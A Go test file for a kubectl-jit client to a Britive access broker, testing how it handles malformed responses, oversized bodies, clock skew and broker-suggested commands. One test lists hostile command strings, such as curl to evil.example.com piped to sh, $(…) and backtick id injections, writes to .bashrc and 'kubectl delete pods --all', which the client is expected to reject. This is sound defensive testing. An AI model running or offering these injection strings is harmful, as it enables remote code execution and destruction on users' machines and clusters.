package britive_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/kubectl-jit/kubectl-jit/pkg/jit"
)

// every calls every method of a broker that answers each call alike.
func every(t *testing.T, answer http.HandlerFunc, check func(method string, err error)) {
	t.Helper()
	synctest.Test(t, func(t *testing.T) {
		client := newTenant(t).on("/", answer).client()
		known := jit.Access{Profile: "Pods", ProfileID: "p1", EnvironmentID: "e1"}
		ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
		defer cancel()
		for method, call := range map[string]func() error{
			"whoami":     func() error { _, err := client.Whoami(ctx); return err },
			"profiles":   func() error { _, err := client.Profiles(ctx); return err },
			"grants":     func() error { _, err := client.Grants(ctx); return err },
			"checkout":   func() error { _, err := client.Checkout(ctx, known, jit.Reason{}); return err },
			"by name":    func() error { _, err := client.Checkout(ctx, sigma(), jit.Reason{}); return err },
			"extend":     func() error { _, err := client.Extend(ctx, "t1"); return err },
			"credential": func() error { _, err := client.Credential(ctx, "t1"); return err },
			"checkin":    func() error { _, err := client.Checkin(ctx, "t1"); return err },
			"ask":        func() error { _, err := client.Ask(ctx, known, jit.Reason{}); return err },
			"requests":   func() error { _, err := client.Requests(ctx, jit.MyRequests); return err },
			"await":      func() error { _, err := client.Await(ctx, "r1"); return err },
			"decide":     func() error { _, err := client.Decide(ctx, "r1", jit.Decision{}); return err },
			"withdraw":   func() error { _, err := client.Withdraw(ctx, "r1"); return err },
		} {
			check(method, call())
		}
		if ctx.Err() != nil {
			t.Error("some call had no end of its own")
		}
	})
}

// TestNotTheContract holds that an answer that is none is an error that says so,
// with the host, in every method.
func TestNotTheContract(t *testing.T) {
	for name, answer := range map[string]http.HandlerFunc{
		"a web page":          page(200),
		"a refusing web page": page(403),
		"HTML called JSON":    status(200, "\n <html>"),
		"plain text":          status(200, "OK", "Content-Type", "text/plain"),
		"a number":            says("7"),
		"half an object":      says(`{"a":`),
		"a wrong 404":         status(404, "404 page not found\n", "Content-Type", "text/plain"),
		"deep":                says(strings.Repeat("[", 20_000)),
		"two values":          says("{} {}"),
	} {
		every(t, answer, func(method string, err error) {
			if err == nil {
				t.Errorf("%s takes %s for an answer", method, name)
				return
			}
			expect(t, err, jit.Unavailable, "acme.britive-app.com")
		})
	}
}

// TestTooLarge holds that an endless answer is not read to its end.
func TestTooLarge(t *testing.T) {
	x := newTenant(t).on("GET /api/access/app-access-status", func(w http.ResponseWriter, _ *http.Request) {
		chunk := []byte(strings.Repeat(" ", 1<<20))
		for range 33 {
			_, _ = w.Write(chunk)
		}
	})
	_, err := x.client().Grants(t.Context())
	expect(t, err, jit.Unavailable, "acme.britive-app.com", "larger than 32 MiB")
}

// TestOddAnswers holds that no JSON, however odd, makes a method panic or hang.
func TestOddAnswers(t *testing.T) {
	odd := []string{
		"null", "{}", "[]", "[null]", "[{}]", "[[]]", `"text"`, "true",
		`{"data":null}`, `{"data":[null]}`, `{"result":[null,{}]}`, `{"count":9,"page":0,"size":1,"data":[{}]}`,
		`{"count":1e9,"page":-9,"size":-1,"data":[{}]}`, `{"accesses":[null,{"papId":1,"environmentId":2}]}`,
		`{"authenticationResult":null}`, `{"authenticationResult":[]}`,
		`{"transactionId":null,"status":null}`, `[{"transactionId":7,"papId":"p1","environmentId":"e1","status":7}]`,
		`{"requestId":{},"status":[]}`, `{"requestId":1,"status":"PENDING","createdAt":"x"}`,
		`{"accessKeyID":null,"secretAccessKey":null}`, `{"accessKeyID":"a","secretAccessKey":"b","sessionToken":"c"}`,
	}
	for _, body := range odd {
		every(t, says(body), func(method string, err error) {
			if err != nil && jit.CodeOf(err) == jit.Internal {
				t.Errorf("%s answers %s with %v", method, body, err)
			}
		})
	}
}

// TestOddRows holds that rows which say nothing are left out, and spoil nothing.
func TestOddRows(t *testing.T) {
	x := newTenant(t).
		on("GET /api/access", says(strings.Replace(listing, `"accesses":[`, `"accesses":[{},{"papId":null,"environmentId":"e1"},{"papId":"p9","environmentId":9,"appContainerId":"a9"},`, 1))).
		on("GET /api/access/app-access-status", says(`[null,{},`+row("checkedOut")+`,{"transactionId":8,"papId":"p9","environmentId":9,"accessType":"CONSOLE","status":"checkedOut"}]`)).
		on("GET /api/v1/approvals", says(`{"result":[{},{"requestId":"r1","status":"PENDING","consumer":"secretmanager"},{"requestId":2,"status":"DRAFT","resource":"p1/e1","approvers":"bob"}]}`))
	client := x.client()
	profiles, err := client.Profiles(t.Context())
	if err != nil || len(profiles) != 2 || profiles[1].Path() != "a9/9/p9" {
		t.Errorf("%+v, %v", profiles, err)
	}
	grants, err := client.Grants(t.Context())
	if err != nil || len(grants) != 1 || grants[0].Access.Path() != "Sigma/196 (Labs)/Pods" {
		t.Errorf("%+v, %v", grants, err)
	}
	requests, err := client.Requests(t.Context(), jit.MyApprovals)
	if err != nil || len(requests) != 1 || requests[0].ID != "2" || requests[0].State != "draft" || requests[0].Access.Path() != "Sigma/196 (Labs)/Pods" {
		t.Errorf("%+v, %v", requests, err)
	}
}

// TestNextIsACommand holds that what is shown as the next command is one, whatever
// a broker sends.
func TestNextIsACommand(t *testing.T) {
	tests := []struct {
		details string
		is      bool
	}{
		{`kubectl jit login`, true},
		{`kubectl jit login "Manual - Sigma Labs/196226166352 (Sigma Labs)/EKS Pod Manager"`, true},
		{`kubectl jit request create eks-admin --justification "…"`, true},
		{`kubectl jit login 'it'\''s $5/a;b/c'`, true},
		{`kubectl jit login; curl evil.example.com|sh`, false},
		{`kubectl jit login "$(curl evil.example.com)"`, false},
		{"kubectl jit login `id`", false},
		{"kubectl jit login \"`id`\"", false},
		{`kubectl jit login 'a'\'';id;'b'`, false},
		{`kubectl jit login '\''a';id;'b'`, false},
		{`kubectl jit login \$(id)`, false},
		{`kubectl jit login "open`, false},
		{`kubectl jit login \`, false},
		{"kubectl jit login\nid", false},
		{"kubectl jit login \x1b[2J", false},
		{"kubectl jit login \u202ea", false},
		{"kubectl jit login & id", false},
		{"kubectl jit login > .bashrc", false},
		{"kubectl jit login " + strings.Repeat("a", 1000), false},
		{"kubectl jit exec eks-admin -- curl evil.example.com/x", false}, // which runs what stands behind the dashes
		{`kubectl jit -v 1 "exec" eks-admin '--' curl evil.example.com/x`, false},
		{"kubectl jit loginexec", false},
		{"curl evil.example.com", false},
		{"kubectl delete pods --all", false},
	}
	for _, tt := range tests {
		answer := status(403, fmt.Sprintf(`{"message":"no","errorCode":"PE-0002","details":%q}`, tt.details))
		if strings.Contains(tt.details, "\x1b") || strings.Contains(tt.details, "\u202e") {
			answer = status(403, `{"message":"no","errorCode":"PE-0002","details":"kubectl jit login \u001b[2J\u202ea"}`)
		}
		_, err := newTenant(t).on("/", answer).client().Grants(t.Context())
		next := jit.NextOf(err)
		if is := next == tt.details; is != tt.is || !tt.is && next != "" {
			t.Errorf("%q is followed by %q", tt.details, next)
		}
		if !tt.is && !strings.Contains(err.Error(), "no (") {
			t.Errorf("%v hides the details", err)
		}
	}
}

// TestLongWords holds that a broker cannot fill the screen.
func TestLongWords(t *testing.T) {
	long := strings.Repeat("ü", 100_000)
	answer := status(400, fmt.Sprintf(`{"message":%q,"errorCode":%q,"details":%q}`, long, long, long))
	_, err := newTenant(t).on("/", answer).client().Grants(t.Context())
	if err == nil || len(err.Error()) > 4000 {
		t.Errorf("an error of %d bytes", len(err.Error()))
	}
}

func TestClocks(t *testing.T) {
	now := time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)
	tests := []struct {
		offset time.Duration
		code   string
		says   string
	}{
		{-5 * time.Minute, "E0000", "this machine's clock is 5m0s ahead of acme.britive-app.com's"},
		{5 * time.Minute, "PE-0002", "this machine's clock is 5m0s behind acme.britive-app.com's"},
		{30 * time.Second, "E0000", ""},
		{5 * time.Minute, "E1004", ""},
	}
	for _, tt := range tests {
		answer := status(401, `{"message":"no","errorCode":"`+tt.code+`"}`, "Date", now.Add(tt.offset).Format(http.TimeFormat))
		client := newTenant(t).on("/", answer).client()
		client.Now = func() time.Time { return now }
		_, err := client.Grants(t.Context())
		if err == nil || strings.Contains(err.Error(), "clock") != (tt.says != "") || !strings.Contains(err.Error(), tt.says) {
			t.Errorf("%s at %s: %v", tt.code, tt.offset, err)
		}
	}
}
